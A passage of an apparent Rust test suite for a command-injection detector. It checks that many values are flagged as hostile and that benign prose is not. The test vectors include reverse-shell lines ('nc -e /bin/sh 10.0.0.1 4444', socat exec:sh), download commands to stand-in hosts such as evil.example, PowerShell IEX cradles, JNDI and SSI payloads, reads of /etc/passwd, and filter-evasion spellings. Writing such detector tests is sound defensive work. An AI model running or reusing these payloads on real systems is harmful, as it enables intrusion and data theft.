        "ping%PROGRAMFILES:~10,1%127.0.0.1",
        "c%COMSPEC:~-7,1%d /c dir",
        "x&%ProgramFiles(x86):~-3%",
        "%25PROGRAMFILES%3A~10%2C1%25",
    ] {
        assert!(hit(v), "missed {v:?}");
    }
    for v in [
        // to cmd a `;` is text: this extends a list
        "C:\\>set PATH=C:\\Program Files\\Python 3.9;%PATH%\nC:\\>python",
        "set PATH=%PATH%;C:\\bin",
        "%USERPROFILE%\\Documents",
        "100%: ~10,1%",
        "Discount 50% :~ 10%",
        "%d:~%",
        "50% off; %PATH% stays",
    ] {
        assert!(!hit(v), "flagged {v:?}");
    }
}

#[test]
fn quote_breakouts_that_rebalance_the_line() {
    for v in [
        "hello'; date #",
        "hello' | groups; '",
        "report.pdf\"\ngroups \"",
        "127.0.0.1\"\nsleep 10 \"",
        "x' && last #",
    ] {
        assert!(hit(v), "missed {v:?}");
    }
    for v in [
        "It's 'fine'; last one",
        "He said 'no'; date was cancelled",
        "Rock 'n' roll; groups welcome",
        "Tom's diner | last call",
        "I'd say \"yes\" & groups",
        "\"Hello\"; date night",
    ] {
        assert!(!hit(v), "flagged {v:?}");
    }
}

#[test]
fn bare_printers_after_an_address_or_a_leading_line_break() {
    for v in [
        "8.8.8.8; set",
        "127.0.0.1 & groups",
        "example.org | last",
        "\ndate",
        "%0agroups",
        "\r\nver",
    ] {
        assert!(hit(v), "missed {v:?}");
    }
    for v in [
        "amazon.com & more",
        "8.8.8.8 | more",
        "Server 10.0.0.1; last checked today",
        "john@example.com; date",
        "10.0.0.1 and more",
        "\nMore info below",
        "\nmore",
        "\nDate: 2024-01-01",
        "\nset up your account",
        "\necho chamber",
        "\nlast name",
        "\ntime",
    ] {
        assert!(!hit(v), "flagged {v:?}");
    }
}

#[test]
fn powershell_escapes_and_call_operators() {
    for v in [
        "I`E`X (iwr http://a.example/x)",
        "x; Invoke-`Expression whoami",
        "x | &(gcm i*x) 'whoami'",
        "&(Get-Command I*X) 'id'",
        "x; .('ie'+'x') 'whoami'",
        "x & & ('who'+'ami')",
    ] {
        assert!(hit(v), "missed {v:?}");
    }
    for v in [
        "R&(D) department",
        "Apple & (Orange)",
        "f(x) & (g)",
        "'hello' + 'world'",
        "(\"a\" + \"b\")",
        "AES (GCM) & (CBC)",
        "mode: (gcm 128)",
        "Use `sort` here",
        "the `cat` command",
        "x`y`z",
    ] {
        assert!(!hit(v), "flagged {v:?}");
    }
}

#[test]
fn command_syntax_of_windows_tools_socat_and_timeout() {
    for v in [
        "whoami /priv",
        "ipconfig /flushdns",
        "wmic process list",
        "wmic /node:10.0.0.2 os get caption",
        "socat tcp:10.0.0.1:4444 exec:sh",
        "start calc.exe",
        "timeout 5 ls",
        "127.0.0.1; timeout 5 id",
        "eval 'id'",
        "f+&+dir",
    ] {
        assert!(hit(v), "missed {v:?}");
    }
    for v in [
        "Whoami / the song",
        "wmic is deprecated",
        "wmic process list is deprecated",
        "socat is a relay",
        "start the car",
        "start here.exe now",
        "timeout 5 seconds",
        "timeout 30 more minutes",
        "Set a timeout 5 s",
        "eval the expression",
        "salt+&+pepper",
    ] {
        assert!(!hit(v), "flagged {v:?}");
    }
}

#[test]
fn unicode_escaped_values_are_decoded() {
    for v in [
        "\\u003b\\u0020id",
        "127.0.0.1\\u007cwhoami",
        "\\u00250Aid\\u00250A",
        "x\\u0026\\u0026 cat /etc/passwd",
    ] {
        assert!(hit(v), "missed {v:?}");
    }
    for v in [
        "\\u0048\\u0065\\u006c\\u006c\\u006f",
        "caf\\u00e9 & bar",
        "\\u0041T&T",
        "name\\u003a John; age 30",
        "{\"text\": \"\\u003cb\\u003ehi\\u003c/b\\u003e\"}",
    ] {
        assert!(!hit(v), "flagged {v:?}");
    }
}

#[test]
fn nul_ends_a_word_and_powershell_types_and_cmdlets() {
    for v in [
        "www.example.com&whoami%00",
        "abc123|id%00",
        "x;who``ami\0",
        "[Environment]::UserName",
        "x; [System.Diagnostics.Process]::Start('calc')",
        "x$([Environment]::UserName)",
        "0; Test-Connection 10.0.0.1",
        "x && Get-LocalUser",
        "abc | dig +short a.example",
        "x\r\nhost a.example #",
        "expr 91 \\* 7",
        "rundll32.exe shell32.dll,ShellExec_RunDLL calc",
    ] {
        assert!(hit(v), "missed {v:?}");
    }
    for v in [
        "name\0",
        "hello world\0",
        "[fe80::1]:8080",
        "http://[2001:db8::1]/",
        "std::vector<int>::iterator",
        "see [docs]:: below",
        "x = a[i]::b",
        "Test connection speed",
        "dig +short is handy for scripts",
        "expr is short for expression",
        "rundll32 is a Windows tool",
    ] {
        assert!(!hit(v), "flagged {v:?}");
    }
}

#[test]
fn programs_under_cmd_directory_variables_and_get_content() {
    for v in [
        "x&%SystemRoot%\\system32\\cmd.exe /c dir",
        "%SystemRoot%\\system32\\cmd.exe /c dir",
        "null\r%WINDIR%\\System32\\WindowsPowerShell\\v1.0\\powershell.exe -nop",
        "test\ngc /etc/passwd",
        "x; gc C:\\Windows\\win.ini",
    ] {
        assert!(hit(v), "missed {v:?}");
    }
    for v in [
        "%USERPROFILE%\\Documents\\report.docx",
        "Open %APPDATA%\\Roaming\\app",
        "%TEMP%\\setup.log",
        "Java GC; tuning tips",
        "young gc | old gc",
        "v2 | gc pauses",
    ] {
        assert!(!hit(v), "flagged {v:?}");
    }
}

#[test]
fn form_encoding_and_references_to_percent_escapes() {
    for v in [
        "system%28%27curl+https%3A%2F%2Fa.example%2Fx.txt%27%29%3B",
        "IF++++%25ERRORLEVEL%25+GEQ+2+++echo+test",
        "if+%2Fi+a%3D%3Db+foo",
        "IF+%2FI+NOT+item1%3D%3Ditem2+++CMD",
        "&#37;0A&#47;usr&#47;bin&#47;id&#37;0A",
        "&#37;0a id &#37;0a",
    ] {
        assert!(hit(v), "missed {v:?}");
    }
    for v in [
        "Tom+%26+Jerry",
        "rock+%7C+roll",
        "50%25+off%3B+more",
        "cats+%26+dogs+%3B+birds",
        "I+came%3B+I+saw%3B+I+left",
        "Sleep+5+hours+%26+more",
        "date%3A+2024-01-01%3B+time%3A+10%3A00",
        "&#37;20hello&#37;20",
        "Q&amp;A &#37; done",
    ] {
        assert!(!hit(v), "flagged {v:?}");
    }
}

#[test]
fn escaped_leading_line_breaks_and_paths_before_bare_printers() {
    for v in ["\\nhostname", "\\r\\nver", "/tmp/a & set", "/var/www; last"] {
        assert!(hit(v), "missed {v:?}");
    }
    for v in ["\\nmore", "/ & more", "/home | sort", "\\n\\nHello"] {
        assert!(!hit(v), "flagged {v:?}");
    }
}

#[test]
fn powershell_aliases_to_code_execution() {
    for v in [
        "sal x iex; x 'whoami'",
        "127.0.0.1 | sal x iex; x 'whoami'",
        "x; nal run Invoke-Expression",
    ] {
        assert!(hit(v), "missed {v:?}");
    }
    for v in [
        "sal y pimienta",
        "sal de mesa; agua",
        "nal and sal",
        "Sal x iex-like names",
    ] {
        assert!(!hit(v), "flagged {v:?}");
    }
}

#[test]
fn a_tool_named_before_prose_in_another_language_is_a_mention() {
    for v in [
        "Interaktywna przeglądarka procesów\nHtop jest przeglądarką procesów opartą na ncursed",
        "十六进制转储工具\nxxd 能创建指定文件或标准输入的十六进制转储",
        "Mapeador de Rede\nNmap é um utilitário para exploração de rede",
    ] {
        assert!(!hit(v), "flagged {v:?}");
    }
    for v in [
        "x\nnmap -sS 10.0.0.1",
        "a\nwhoami",
        "x\nnc -e /bin/sh 10.0.0.1 4444",
        "x\nhtop",
    ] {
        assert!(hit(v), "missed {v:?}");
    }
}

#[test]
fn dev_mentions_are_every_slash_that_opens_dev() {
    for v in [
        "/dev/dev/tcp/10.0.0.1/4444",
        "a/dev/null /dev/tcp/h/80 /dev/",
        "/de/dev//dev/udp/x/53",
        "no device here",
        "",
        "/dev/",
    ] {
        let b = v.as_bytes();
        let by_slash: Vec<usize> = memchr::memchr_iter(b'/', b)
            .filter(|&p| b[p..].starts_with(b"/dev/"))
            .collect();
        assert_eq!(dev_mentions(b).collect::<Vec<_>>(), by_slash, "{v}");
    }
    assert!(dev_tcp(b"/dev/dev/tcp/10.0.0.1/4444"));
    assert!(!dev_tcp(b"/dev/null and /dev/tcp/"));
}

/// The substring-searcher forms the in-place checks replaced.
fn php_code_by_search(v: &[u8]) -> bool {
    let finder = |needle: &[u8]| memchr::memmem::find(v, needle).is_some();
    finder(b"{${")
        || finder(b"${@")
        || SUPERGLOBALS.iter().any(|g| {
            memchr::memmem::find_iter(v, g)
                .take(8)
                .any(|at| matches!(v.get(at + g.len()), Some(b'[' | b'}' | b')' | b';')))
        })
}

#[test]
fn in_place_checks_answer_as_substring_searches() {
    let many = "$_GET ".repeat(8) + "$_GET[x]";
    let nine = "$_GET ".repeat(7) + "$_GET[x]";
    for v in [
        "{${sleep(3)}}",
        "${@print(1)}",
        "x=$_GET[cmd]",
        "{$_POST}",
        "$_SERVER)",
        "$_FILES;",
        "$_COOKIE",
        "price $5 and ${name}",
        "{$x}",
        "$",
        "",
        "${jndi:ldap://x}",
        "<!--#exec cmd=\"id\" -->",
        "<!-- # not -->",
        "$((7*7))",
        "$[2+2]",
        many.as_str(),
        nine.as_str(),
    ] {
        let b = v.as_bytes();
        assert_eq!(php_code(b), php_code_by_search(b), "{v}");
        assert_eq!(
            jndi_lookup(b),
            memchr::memmem::find(b, b"${").is_some()
                && b.windows(5).any(|w| w.eq_ignore_ascii_case(b"jndi:")),
            "{v}"
        );
        let ssi = memchr::memmem::find(b, b"<!--#").is_some();
        let ssi_in_place = memchr::memchr_iter(b'<', b).any(|p| b[p..].starts_with(b"<!--#"));
        assert_eq!(ssi_in_place, ssi, "{v}");
        for close in [&b"))"[..], b"]"] {
            let t = &b[..b.len().min(64)];
            assert_eq!(
                t.windows(close.len()).position(|w| w == close),
                memchr::memmem::find(t, close),
                "{v}"
            );
        }
    }
    assert!(!php_code(many.as_bytes()));
    assert!(php_code(nine.as_bytes()));
}

#[test]
fn last_separator_is_that_of_a_byte_scan() {
    let far = ";".to_owned() + &"x".repeat(200);
    let near_break = "a;".to_owned() + &"x".repeat(100) + "\n" + &"y".repeat(70);
    let edge = "x".repeat(63) + "|" + &"y".repeat(64);
    let edge2 = "x".repeat(64) + "|" + &"y".repeat(63);
    for v in [
        far.as_str(),
        near_break.as_str(),
        edge.as_str(),
        edge2.as_str(),
        "",
        "abc",
        "a;b|c&d",
        "x\ny\rz",
        ";",
        "a\r\n",
        "&&||;;",
        "no sep here at all",
        "é;ü",
    ] {
        let b = v.as_bytes();
        assert_eq!(last_sep(b), b.iter().rposition(|&c| is_sep(c)), "{v:?}");
    }
}

/// The lazy scan (dead starts counted, not classified) judges the same starts as the exact
/// scan, less the dead ones, and falls back to the exact scan when the cap is reached.
#[test]
fn lazy_scan_matches_exact_scan() {
    let many_blank_lines = format!("a{}x;id", "\n".repeat(70));
    let many_pipes = format!("{}; id", "a |\n".repeat(40));
    let values = [
        "x\n\nid",
        "x\r\n\r\nuname -a",
        "a;;id",
        "a|\nls -la /tmp",
        "Привет\nмир; cat /etc/passwd",
        "a\\n\\nid",
        "x;",
        many_blank_lines.as_str(),
        many_pipes.as_str(),
    ];
    for v in values {
        let v = v.as_bytes();
        let (mut lazy, mut exact) = (Starts::default(), Starts::default());
        let lazy_scan = scan_starts(v, ByteSet::of(v), false, &mut lazy, true);
        scan_starts(v, ByteSet::of(v), false, &mut exact, false);
        let live: Vec<_> = exact
            .iter()
            .filter(|&(at, _)| !dead_start(v, at, false))
            .collect();
        match lazy_scan {
            Scan::Capped => assert!(exact.len() + 1 >= MAX_STARTS, "{v:?}"),
            _ => assert_eq!(lazy.iter().collect::<Vec<_>>(), live, "{v:?}"),
        }
    }
    // Past the cap nothing is judged, lazily or not: the command after 70 blank lines is
    // not reached either way.
    assert!(!hit(&many_blank_lines));
    assert!(hit("x\n\nid;"));
    assert!(!hit("first line\n\nsecond line"));
}

/// A start on a separator, at the end or on a non-ASCII byte can start no command.
#[test]
fn dead_starts() {
    assert!(dead_start(b"a;", 2, false));
    assert!(dead_start(b"a;;", 2, false));
    assert!(dead_start(b"a\n\n", 2, false));
    assert!(dead_start("a\nя".as_bytes(), 2, false));
    assert!(
        !dead_start(b"a&&", 2, false),
        "`&(…)` is PowerShell's call operator"
    );
    assert!(!dead_start(b"a\nid", 2, false));
    assert!(!dead_start(b"a\n /bin/id", 2, false));
    assert!(!hit("a;\nя id"));
}

/// Words opening with a non-ASCII byte are no command, wherever they start; ASCII commands
/// next to them still are.
#[test]
fn non_ascii_words_are_no_commands() {
    for w in ["привет", "ф-get", "é/bin/id", "日本$x", "ä?t", "ü.exe"] {
        assert_eq!(classify(w.as_bytes()), CommandWord::Unknown, "{w}");
    }
    assert!(!hit("Привет; мир -la /etc"));
    assert!(!hit("x\nПривет -rf /tmp"));
    assert!(hit("Привет; cat /etc/passwd"));
    assert!(hit("Привет\nid;"));
}

/// The byte-wise versioned-name rule reads names as the character-wise one did.
#[test]
fn versioned_names_by_bytes() {
    assert_eq!(versioned_bytes(b"python3.10"), Some(Tier::Exotic));
    assert_eq!(versioned_bytes(b"gcc-12"), Some(Tier::Exotic));
    assert!(versioned_bytes(b"pip3").is_some());
    for w in [
        "ps4",
        "sh2",
        "python",
        "python3.",
        "abc-",
        "3.10",
        "python1234567",
        "café3",
    ] {
        assert_eq!(versioned_bytes(w.as_bytes()), versioned(w), "{w}");
    }
    assert_eq!(versioned_bytes(b"ps4"), None);
    assert_eq!(versioned_bytes(b"python1234567"), None);
}

/// The finder built from a value's byte classes stops where the table scan stops, passing
/// over `<` and `>` in a value without `(`.
#[test]
fn start_finder_matches_the_table_scan() {
    // Past [`SHORT_REST`] bytes the vectorised searches answer.
    let long = format!(
        "{}\n{}; x | y{}",
        "a".repeat(40),
        "b ".repeat(30),
        "c".repeat(70)
    );
    let long_html = format!("<p>{}</p>\n&amp; $(x) `y` {{a,b}}", "text ".repeat(20));
    let markup = format!("<p>{}<br>\n<b>x</b> &amp; y</p>", "text ".repeat(20));
    for v in [
        long.as_str(),
        long_html.as_str(),
        markup.as_str(),
        "plain words only",
        "line one\nline two\r\nthree",
        "a=1&b=2;c|d",
        "x^y",
        "<b>$(id)</b> `x` {a,b} \\n ; | & \n \r",
        "nul\0byte\nafter",
        "",
    ] {
        let v = v.as_bytes();
        let finder = StartFinder::new(ByteSet::of(v));
        // `<` and `>` act only before a `(`.
        let parens = v.contains(&b'(');
        let acts = |b: u8| START_BYTE[usize::from(b)] && (parens || !matches!(b, b'<' | b'>'));
        for i in 0..=v.len() {
            assert_eq!(
                finder.find(&v[i..]),
                v[i..].iter().position(|&b| acts(b)),
                "{v:?} at {i}"
            );
        }
    }
}

/// The byte tables say what the character tests they replace say.
#[test]
fn byte_tables_match_their_definitions() {
    for c in 0..=255u8 {
        assert_eq!(
            IDENT_BYTE[usize::from(c)],
            c.is_ascii_alphanumeric() || c == b'_'
        );
        let plain = c.is_ascii_lowercase() || c.is_ascii_digit() || c == b'-' || c == b'_';
        assert_eq!(PLAIN_NAME_BYTE[usize::from(c)], plain);
        assert_eq!(GLOB_BYTE[usize::from(c)], matches!(c, b'?' | b'*' | b'['));
    }
}

/// The word reader skips assignments, drops quotes and escapes, stops at a brace's comma and
/// keeps at most [`MAX_WORD`] bytes, lower-cased.
#[test]
fn word_reader_reads_identifiers_whole() {
    let long = format!("{}x", "a_1".repeat(30));
    for (v, at, kind, word) in [
        ("cat /etc/passwd", 0, Start::Value, "cat"),
        ("A=1 B=2 id;x", 0, Start::Value, "id"),
        ("wh\\oami", 0, Start::Value, "whoami"),
        ("c'a't x", 0, Start::Value, "cat"),
        ("Who_Am1.exe x", 0, Start::Value, "who_am1.exe"),
        ("{,,cat,/etc/passwd}", 1, Start::Subst, "cat"),
        (
            long.as_str(),
            0,
            Start::Value,
            &long.to_ascii_lowercase()[..MAX_WORD],
        ),
    ] {
        let (w, _, _) = read_command_word(v.as_bytes(), at, kind, false).expect(v);
        assert_eq!(w.as_slice(), word.as_bytes(), "{v}");
    }
}

/// The one-pass word count agrees with splitting the line at spaces.
#[test]
fn letter_words_counted_as_split_counts_them() {
    for line in [
        "",
        " ",
        "a b c d",
        "one two three four",
        "one two three fo",
        "  one  two three, four five",
        "x1 two three four five",
        "il était une fois dans",
        "le été de la mer",
        "can be invoked using",
        "can be invoked using ",
        "a,b c d e f g",
    ] {
        for n in 1..=5 {
            let split = line
                .split(' ')
                .filter(|t| t.len() > 1 && t.bytes().all(|b| b.is_ascii_alphabetic()))
                .count();
            assert_eq!(
                letter_words_at_least(line.as_bytes(), n),
                split >= n,
                "{line:?} {n}"
            );
        }
    }
}

/// Every kind of start [`judge_start`] is given.
const ALL_KINDS: [Start; 7] = [
    Start::Value,
    Start::Tight,
    Start::Loose,
    Start::Data,
    Start::Newline,
    Start::Subst,
    Start::Backtick,
];

/// [`no_command_word`] only turns away starts [`judge_start`] answers `None` for, at every
/// offset and for every kind: attack spellings next to words no command opens with (an
/// assignment, an executable extension, PowerShell's `sal`, quotes and escapes glued on, a
/// separator) are left to the reader.
#[test]
fn no_command_word_is_never_a_command() {
    let values = [
        "qzx; id",
        "Qzx /etc/passwd",
        "xq.exe /c calc",
        "qz=1 cat /etc/passwd",
        "sal x iex; x 'id'",
        "qz'x' id",
        "qz\\x; whoami",
        "qz$IFS$9id",
        "qz`id`",
        "hello, world.\nqzx: done!\n",
        "The quick brown fox; jumps",
        "www.example.com; ls -la",
        "a\n  qzxy(1) | sh",
        "qz<(id)",
        "qz>()id",
        "qq+id",
        // Words the pair filter lets through and the vocabulary does not know, next to the
        // words rules read by name and to commands.
        "In the end; to be or not\nA quick test | it is\nI said & so on",
        "a\nin x; id\nto /tmp/x\nis(1) | sh",
        "x; if [ 1 ]; then id; fi",
        "if exist x id",
        "x\nwhile true; do id; done",
        "x; until false; do id; done",
        "x; function f { id; }; f",
        "x;eval id",
        "x; trap id EXIT",
        "$(shell id)",
        "x; case a in *) id;; esac",
        "x & choice /t 5 /d y",
        "x;waitfor /t 5 x",
        "x;nice id",
        "x;stdbuf id",
        "x;setsid id",
        "x;coproc id",
        "x;taskset 1 id",
        "x; time id",
        "abc; eval id",
        "x;sleep 5",
        "for /f %i in (x) do id",
        "x; sal x iex; x 'id'",
        "x;do id",
        "x;then id",
        "x;else id",
        "x\nw",
        "x;id",
        "However, in: the end! It is.\nNote: a, b,, c.\nYes.:!, no",
        "x & whoami, id",
        "x & ipconfig, /all",
        "x;uname, -a",
        "{id,cat,/etc/passwd}",
        "{in,cat,/etc/passwd}",
        "x;ls.",
        "x\nsleep. 5",
        "a\nc: id",
        "x; if, then",
        "x;python. -c id",
        "x;mkfs.ext4 /dev/sda",
    ];
    let mut turned_away = 0;
    for v in values {
        let b = v.as_bytes();
        for at in 0..=b.len() {
            for plus in [false, true] {
                if !no_command_word(b, at, plus) {
                    continue;
                }
                turned_away += 1;
                for kind in ALL_KINDS {
                    assert_eq!(
                        judge_start(b, at, kind, plus),
                        None,
                        "{v:?} at {at} {kind:?}"
                    );
                }
            }
        }
    }
    assert!(turned_away > 20, "{turned_away}");
    // The rules read before classifying need their words kept: `if` and `for` open with
    // pairs the vocabulary knows, `sal`/`nal` are kept by name, and an assignment, an
    // executable or a word with quotes is read in full.
    assert!(vocabulary::may_name_command(b"if") && vocabulary::may_name_command(b"for"));
    for (v, at) in [
        ("sal x", 0),
        ("nal x", 0),
        ("qz=1 id", 0),
        ("qzx.exe", 0),
        ("qz'x'", 0),
        ("a; qz_x", 2),
    ] {
        assert!(!no_command_word(v.as_bytes(), at, false), "{v:?}");
    }
    assert!(no_command_word(b"a; Qzx, then", 2, false));
    assert!(no_command_word(b"a\nqzx", 2, false));
    // Words the pair filter lets through are looked up whole; those rules read by name stay.
    for w in [
        &b"if"[..],
        b"for",
        b"function",
        b"case",
        b"do",
        b"then",
        b"else",
        b"eval",
        b"trap",
        b"while",
        b"until",
        b"sal",
        b"nal",
        b"shell",
        b"choice",
        b"waitfor",
        b"sleep",
        b"coproc",
        b"taskset",
        b"stdbuf",
        b"nsenter",
        b"ionice",
        b"setsid",
    ]
    .into_iter()
    .chain(WRAPPERS.iter().copied())
    {
        assert!(named_by_a_rule(w), "{w:?}");
    }
    for w in [&b"in"[..], b"to", b"a", b"is", b"all", b"iff", b"fi", b""] {
        assert!(!named_by_a_rule(w), "{w:?}");
    }
    assert!(vocabulary::may_name_command(b"in") && vocabulary::may_name_command(b"to"));
    assert!(no_command_word(b"a\nIn the", 2, false));
    assert!(no_command_word(b"a; to", 2, false));
    assert!(no_command_word(b"a\nA b", 2, false));

    for (v, at) in [
        ("a\nid", 2),
        ("a\nif x", 2),
        ("a\ntrap x", 2),
        ("a\nin.", 2),
        ("a\nin, b", 2),
        ("a\n2>x id", 2),
        ("a; in_x", 3),
        ("a; in-x", 3),
    ] {
        assert!(!no_command_word(v.as_bytes(), at, false), "{v:?}");
    }
    // The starts still judged find the commands after them.
    assert!(hit("qzx; id"));
    assert!(hit("xq.exe /c calc"));
    assert!(hit("qz=1 cat /etc/passwd"));
}

/// [`classify`]'s early answer for words opening with a pair no command opens with matches
/// the full rules: only an executable's extension makes one a command.
#[test]
fn words_no_command_opens_with() {
    assert!(!vocabulary::may_name_command(b"qz"));
    for (w, want) in [
        ("qzx", CommandWord::Unknown),
        ("qz.exe", CommandWord::Known(Tier::Tool)),
        ("qz-1.bat", CommandWord::Known(Tier::Tool)),
        ("qz.exe.", CommandWord::Unknown),
        ("qz.txt", CommandWord::Unknown),
        ("qz*.exe", CommandWord::Unknown),
        ("qz?", CommandWord::Unknown),
        ("qz:", CommandWord::Unknown),
        ("qz,", CommandWord::Unknown),
        ("www.example.com", CommandWord::Unknown),
    ] {
        assert_eq!(classify(w.as_bytes()), want, "{w}");
    }
    // Paths, variables and one-letter names are judged by the full rules.
    assert_eq!(classify(b"w.exe"), classify_name("w.exe"));
    assert_eq!(classify(b"/bin/qzx"), CommandWord::Known(Tier::Tool));
    assert_eq!(classify(b"%comspec%"), CommandWord::Variable);
    for w in [
        "qz.exe", "ab.cmd", "x/y.bat", "a\\b.ps1", "é.exe", ".exe", "ab.", "stem.scr",
    ] {
        assert_eq!(
            executable_name_bytes(w.as_bytes()),
            executable_name(w),
            "{w}"
        );
    }
}

/// [`Word::take_word_bytes`] takes the run of word bytes lower-cased as far as the word has
/// room, whatever the run's length, the word's length before it, the bytes after the run
/// (written past the word's length by the block copy, never counted) and the identifier
/// bytes it is told are known.
#[test]
fn word_bytes_taken_in_blocks() {
    let alphabet = b"aZ09_-./:%=Q \t;|&'\"$(){}<>\\^`\xc3\xa9";
    let mut seed = 0x2545_f491_4f6c_dd1du64;
    let mut next = || {
        seed ^= seed << 13;
        seed ^= seed >> 7;
        seed ^= seed << 17;
        seed
    };
    for _ in 0..4000 {
        let len = (next() % 90) as usize;
        let mut rest: Vec<u8> = (0..len)
            .map(|_| alphabet[(next() % alphabet.len() as u64) as usize])
            .collect();
        if let Some(first) = rest.first_mut() {
            *first = b'A';
        }
        let before = (next() % (MAX_WORD as u64 + 1)) as usize;
        let ident = rest
            .iter()
            .take_while(|&&c| IDENT_BYTE[usize::from(c)])
            .count();
        let known = (next() % (ident as u64 + 1)) as usize;
        let mut word = Word::default();
        for _ in 0..before {
            word.push(b'x');
        }
        let taken = word.take_word_bytes(&rest, known);
        let room = MAX_WORD - before;
        let run = rest
            .iter()
            .take(room)
            .take_while(|&&c| WORD_BYTE[usize::from(c)])
            .count();
        assert_eq!(taken, run, "{rest:?} after {before}");
        let mut want = vec![b'x'; before];
        want.extend(rest[..run].iter().map(u8::to_ascii_lowercase));
        assert_eq!(word.as_slice(), &want[..], "{rest:?} after {before}");
    }
}

/// The directive is found behind any amount of markup, and markup without it (comments
/// included) is none.
#[test]
fn server_side_include_behind_markup() {
    let markup = "<p><b>x</b> <!-- note --> <a href=\"#top\">top</a></p>".repeat(40);
    assert!(!server_side_include(markup.as_bytes()));
    for directive in [
        "<!--#exec cmd=\"id\" -->",
        "<!--#INCLUDE virtual=\"/etc/passwd\" -->",
    ] {
        let v = format!("{markup}{directive}");
        assert!(server_side_include(v.as_bytes()), "{directive}");
        assert!(hit(&v), "{directive}");
    }
    assert!(!server_side_include(b"<!--# not a directive -->"));
    assert!(!server_side_include(b"<!--#"));
}

#[test]
fn compound_command_conditions() {
    for v in [
        ";if id;then :;fi",
        ";while id;do break;done",
        "x;until whoami;do :;done",
    ] {
        assert!(hit(v), "missed {v:?}");
    }
    for v in [
        "; if cat is hungry, feed it",
        "Yes; if so, then fine",
        "; while we wait for the bus",
        "ok; until then",
    ] {
        assert!(!hit(v), "flagged {v:?}");
    }
}

#[test]
fn words_the_shell_rebuilds() {
    for v in [
        ";command id",
        ";builtin exec id",
        ";coproc id",
        "&&,whoami",
        "&& ${u:-sleep} 5",
        ";${x:-id}",
        ";w${9}hoami",
        ";who${*}ami",
        ";id${IFS%?}",
        ";w$(:)hoami",
        ";i\\\nd",
        ";sl\\\neep 5",
        ";nl /etc/passwd",
        "a@b.c -be ${run{/usr/bin/id}}",
        "-oProxyCommand=id",
        "--upload-pack=touch /tmp/pwn",
    ] {
        assert!(hit(v), "missed {v:?}");
    }
    for v in [
        "${PORT:-8080}",
        "host: ${DB_HOST:-localhost}",
        "a, b, c",
        "time, money",
        "nl",
        "/etc/passwd",
        "/etc/shells",
    ] {
        assert!(!hit(v), "flagged {v:?}");
    }
}

#[test]
fn lists_of_names_and_table_prices() {
    for v in [
        "| Free | $0 | 1 |",
        "| Basic | $0 |",
        "Experience with Linux (Ubuntu/Debian), Docker & Kubernetes.",
        "Networking: Cisco, Wireshark & Nmap",
        "Skills: Python | Bash | SQL",
        "Perl | Python | Ruby",
    ] {
        assert!(!hit(v), "flagged {v:?}");
    }
    for v in [
        "{} ; Whoami",
        "x;$0 -c id",
        "| $0 -c 'id'",
        "x && bash -i",
        "a & Whoami /all",
    ] {
        assert!(hit(v), "missed {v:?}");
    }
}

#[test]
fn paths_wrappers_and_reserved_words_in_command_position() {
    for v in [
        "8.8.8.8;/tmp/.b",
        "1.1.1.1||./.d",
        "8.8.8.8$(/tmp/x)",
        "a.jpg';/tmp/p;'",
        "x;nice -n 19 id",
        "x;taskset 1 id",
        "x;nsenter -t 1 -m -u -i -n id",
        "x;for i in 1;do id;done",
        "x;while :;do id;break;done",
        "8.8.8.8;nvram get http_passwd",
        "srv; Resolve-DnsName x.oast.me",
    ] {
        assert!(hit(v), "missed {v:?}");
    }
    for v in [
        "a;/b",
        "/usr/lib/x\n/usr/lib/y",
        "x;/etc/hosts",
        "/cgi-bin/../../../../etc/passwd",
        "//etc//passwd",
        "/app/..;/manager/html",
        "/s/x/_/;/WEB-INF/web.xml",
        "; ./main.coffee is loaded",
        "`type`, when used in a schema has special meaning",
        "be nice; do good; then rest",
    ] {
        assert!(!hit(v), "flagged {v:?}");
    }
}

#[test]
fn a_lone_shell_abbreviation_after_a_longer_prefix() {
    for v in [
        "127.0.0.1 -c 1; id",
        "Quarterly report 2024; reboot",
        "my file.txt | id",
    ] {
        assert!(hit(v), "missed {v:?}");
    }
    for v in [
        "He (grep) & id",
        "Rock; Id",
        "Notes; see id card",
        "Apples; Env",
    ] {
        assert!(!hit(v), "flagged {v:?}");
    }
}

#[test]
fn two_nouns_joined_by_and() {
    assert!(!hit(
        "search_history=select comfort|union pacific|cat & dog"
    ));
    assert!(!hit("toys|cat & dog"));
    assert!(hit("x|cat /etc/passwd & dog"));
    assert!(hit("x|cat & whoami"));
}

#[test]
fn bash_pipe_of_both_streams() {
    assert!(hit("127.0.0.1 |& id"));
    assert!(hit("x|&nc 10.0.0.1 4444"));
    assert!(!hit("Q&A |& answers"));
}

#[test]
fn case_branches_run_their_commands() {
    for v in [
        "x; case a in a) id;; esac",
        ";case $x in *) cat /etc/passwd;; esac",
        "`case 1 in (1) whoami;; esac`",
    ] {
        assert!(hit(v), "missed {v:?}");
    }
    for v in [
        "in case of fire) call 911",
        "Use case: in practice) we sell cat food",
        "case in point) nothing",
    ] {
        assert!(!hit(v), "flagged {v:?}");
    }
}

#[test]
fn powershell_names_built_at_run_time() {
    for v in [
        "& (\"{1}{0}\" -f 'ex','i') 'whoami'",
        "x; &('{0}{1}' -F 'i','ex') $c",
        "; $ExecutionContext.InvokeCommand.InvokeScript('whoami')",
        "|$executioncontext.SessionState.InvokeCommand.NewScriptBlock($c)",
    ] {
        assert!(hit(v), "missed {v:?}");
    }
    for v in [
        "Format: (\"{0} items\" -f $n) in the docs",
        "$ExecutionContext is a PowerShell variable",
    ] {
        assert!(!hit(v), "flagged {v:?}");
    }
}

#[test]
fn programs_run_from_where_droppers_write() {
    for v in [
        "; /tmp/x",
        "127.0.0.1 | ./bot.x86 router.dlink",
        "&& /dev/shm/.k 10.0.0.1 443",
        "|| /tmp/kinsing &",
        "`/tmp/x`",
        "& C:\\Users\\Public\\x.exe",
        "x & \\\\10.0.0.1\\share\\x.exe",
        "& %TEMP%\\svc.exe",
    ] {
        assert!(hit(v), "missed {v:?}");
    }
    for v in [
        "files:\n/tmp/a\n/tmp/b",
        "register(pathToFileURL(\"./hooks.mjs\"));' ./main.coffee",
        "saved to C:\\Users\\me\\Documents\\cv.docx",
        "see; ./docs for more",
    ] {
        assert!(!hit(v), "flagged {v:?}");
    }
}

#[test]
fn redirections_before_the_command_name() {
    for v in [
        "; 2>/dev/null id",
        "; </dev/null whoami",
        "; >/dev/null wget http://evil.example/x",
        "; &>/dev/null nc 10.0.0.1 4444 -e sh",
        "; . /tmp/x.sh",
    ] {
        assert!(hit(v), "missed {v:?}");
    }
    for v in [
        "<br`> piterson: rpm -e anonftp",
        "> quoted reply: cat food is good",
    ] {
        assert!(!hit(v), "flagged {v:?}");
    }
}

#[test]
